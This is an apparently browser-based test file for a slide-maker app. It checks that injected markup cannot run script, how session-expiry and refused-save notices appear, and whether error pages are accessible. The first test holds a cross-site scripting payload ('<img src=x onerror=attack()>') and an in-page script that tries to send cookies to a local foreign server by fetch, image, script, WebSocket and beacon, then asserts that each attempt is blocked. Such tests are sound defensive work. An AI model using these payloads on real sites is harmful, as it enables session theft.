// What the slide maker keeps from a browser, and what it tells it: markup that runs a script
// reaches nothing, upstream's session stays outside, a refused save shows, and the small pages are
// fit to read.

import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, afterEach, beforeAll, expect, onTestFinished, test } from 'vitest'
import type { Page } from '../../sandbox/chromium.ts'
import { sandboxUser } from '../../sandbox/sandbox.ts'
import { createMakerSteps, type MakerSteps } from './maker-steps.ts'
import { expectAccessible, openPageWorld, type PageWorld, shoot } from './page-world.ts'

let world: PageWorld
let steps: MakerSteps
beforeAll(async () => {
  // Without a page to sign in, so that the small pages show.
  world = await openPageWorld({ MAKER_SIGN_IN_URL: '' }, { maker: true })
  steps = createMakerSteps(world)
})
afterEach(() => world.closePages())
afterAll(() => world.close())

const looks = [
  ['light', { colorScheme: 'light' }],
  ['dark', { colorScheme: 'dark' }],
  ['narrow', { colorScheme: 'light', viewport: { width: 340, height: 640 } }],
] as const

async function api(method: string, path: string, sub = sandboxUser, expiresInSeconds = 3_600) {
  const authorization = `Bearer ${await world.sandbox.sign({ sub, expiresInSeconds })}`
  return fetch(`${world.origin}/api/v1${path}`, { method, headers: { authorization } })
}

/** For a session that ends with a token of this length. */
async function ticketOf(sub: string, expiresInSeconds?: number): Promise<string> {
  const response = await api('POST', '/maker', sub, expiresInSeconds)
  const { url } = (await response.json()) as { url: string }
  return url
}

/** A foreign site, which counts what comes to it. */
async function openForeignSite() {
  let requests = 0
  const server = createServer((_request, response) => {
    requests += 1
    response.setHeader('access-control-allow-origin', '*').end('{}')
  })
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  const { port } = server.address() as AddressInfo
  return { origin: `http://127.0.0.1:${port}`, requests: () => requests }
}

/** Runs in the page: by every way that a script has to send something. */
const attack = (apiOrigin: string, foreignOrigin: string) => `window.attack = async () => {
  if (window.isAttacked) return
  window.isAttacked = true
  const list = '${apiOrigin}/api/v1/presentations'
  const loaded = (tag, src) => new Promise((resolve, reject) => {
    const node = Object.assign(document.createElement(tag), { src, onload: resolve, onerror: reject })
    document.body.append(node)
  })
  const tries = {
    api: () => fetch(list, { credentials: 'include' }),
    plain: () => fetch(list, { credentials: 'include', mode: 'no-cors' }),
    foreign: () => fetch('${foreignOrigin}/?' + document.cookie),
    image: () => loaded('img', '${foreignOrigin}/image?' + document.cookie),
    script: () => loaded('script', '${foreignOrigin}/script'),
    socket: () => new Promise((resolve, reject) =>
      Object.assign(new WebSocket('${foreignOrigin}'.replace('http', 'ws')), { onopen: resolve, onerror: reject })),
  }
  navigator.sendBeacon('${foreignOrigin}/beacon', document.cookie)
  const results = {}
  for (const [name, act] of Object.entries(tries))
    results[name] = await act().then(() => 'reached', () => 'blocked')
  window.attacked = { ...results, cookie: document.cookie }
}`

test('markup of an outline that runs a script reaches nothing', async () => {
  const foreign = await openForeignSite()
  const page = await world.openPage()
  await page.goto(await ticketOf('victim'))
  const asked = () =>
    world.sandbox.gateway.logs.filter((line) => line.includes('/api/v1/presentations'))
  await api('GET', '/presentations', 'victim')
  const before = asked().length
  expect(before).toBeGreaterThan(0)

  await page.evaluate(attack(world.origin, foreign.origin))
  await steps.startDeck(
    page,
    'The bridge is repaired. <img src=x onerror=attack()> is what it costs.',
  )
  // `waitForFunction` would evaluate in the page, which its policy forbids.
  await expect
    .poll(() => page.evaluate('window.attacked'), { timeout: 90_000 })
    .toEqual({
      ...{ api: 'blocked', plain: 'blocked', foreign: 'blocked', image: 'blocked' },
      ...{ script: 'blocked', socket: 'blocked', cookie: '' },
    })
  expect(foreign.requests()).toBe(0)
  expect(asked().length).toBe(before)
  const journal = world.sandbox.standIn?.journal.map(({ path }) => path) ?? []
  expect(journal.join(' ')).toContain('/outlines/stream/')
  expect(journal).not.toContain('/x')

  const cookies = await page.context().cookies()
  expect(cookies.map(({ name }) => name)).not.toContain('presenton_session')
  expect(cookies.find(({ name }) => name === 'maker_session')).toMatchObject({ httpOnly: true })
  world.expectErrors(/Content Security Policy|404|Failed to (fetch|load)|WebSocket/)
})

test('a refused save shows, also one after the end of the session; what was saved stays', async () => {
  const { maker } = await steps.openDeck()
  const title = (page: Page) =>
    page.getByRole('region', { name: 'Slide' }).getByRole('textbox').first()
  const notice = maker.getByRole('alert')
  await steps.saved(maker, 'slide_update', () => title(maker).fill('Saved before'))
  expect(await notice.count()).toBe(0)

  const gates = world.sandbox.standIn?.gates
  gates?.hold('slides:slide')
  onTestFinished(() => gates?.releaseAll())
  const other = world.watch(await maker.context().newPage())
  await other.goto(maker.url())
  const streamed = other.waitForResponse((one) => one.url().includes('/presentation/stream/'))
  await other.getByRole('button', { name: 'Regenerate' }).click()
  await Promise.all([streamed, other.getByText(/Making the slides/).waitFor()])
  await steps.saved(maker, 'slide_update', () => title(maker).fill('Too late'), 409)
  await notice.getByText('The last change was not saved.').waitFor()
  for (const [name, { colorScheme, ...rest }] of looks) {
    await maker.emulateMedia({ colorScheme })
    await maker.setViewportSize('viewport' in rest ? rest.viewport : { width: 1280, height: 860 })
    await shoot(maker, `maker-notice-${name}`)
  }
  gates?.releaseAll()
  await steps.isMade(other)

  await other.reload()
  await steps.saved(other, 'slide_update', () => title(other).fill('Kept'))
  expect((await api('DELETE', '/maker')).status).toBe(204)
  await steps.saved(other, 'slide_update', () => title(other).fill('Lost'), 401)
  const over = other.getByRole('alert')
  await over.getByText(/session in the slide maker is over/).waitFor()
  await shoot(other, 'maker-notice-over')
  await over.getByRole('link', { name: 'Sign in again' }).click()
  await other.getByRole('heading', { name: 'Please sign in' }).waitFor()
  await other.goto(await ticketOf(sandboxUser))
  await other.goto(maker.url())
  await expect.poll(() => title(other).inputValue()).toBe('Kept')
  world.expectErrors(/409|401|404.*favicon\.ico/)
})

test('a session that ends soon says so, until it is renewed', async () => {
  const page = await world.openPage()
  // The notice comes when a third is left.
  await page.goto(await ticketOf(sandboxUser, 30))
  await page.getByRole('heading', { name: 'Presentations' }).waitFor()
  const notice = page.getByRole('alert')
  expect(await notice.count()).toBe(0)
  await notice.getByText('Your session in the slide maker ends soon.').waitFor({ timeout: 60_000 })
  await shoot(page, 'maker-notice-soon')
  expect((await api('POST', '/maker/renew')).status).toBe(200)
  await notice.waitFor({ state: 'detached', timeout: 60_000 })
})

test.each(looks)('the small pages can be read: %s', async (name, options) => {
  const page = await world.openPage(options)
  const show = async (path: string, heading: string, status: number) => {
    const response = await page.goto(path.startsWith('http') ? path : `${world.makerUrl}${path}`)
    expect(response?.status()).toBe(status)
    await page.getByRole('heading', { name: heading }).waitFor()
    await expectAccessible(page)
    await shoot(page, `maker-${heading.toLowerCase().replace(/\W+/g, '-')}-${name}`)
  }
  await show('/dashboard', 'Please sign in', 401)
  await show('/_enter?ticket=used', 'This link has expired', 401)
  await page.goto(await ticketOf('first'))
  await show('/nothing', 'Not Found', 404)
  await show(await ticketOf('second'), 'Change the user?', 200)
  await page.getByRole('button', { name: 'Go on' }).click()
  await page.getByRole('heading', { name: 'Presentations' }).waitFor()
  const faults = world.sandbox.standIn?.faults
  await faults?.down()
  try {
    await show('/dashboard', 'Service Unavailable', 503)
  } finally {
    await faults?.up()
  }
  world.expectErrors(/401|404|503/)
})
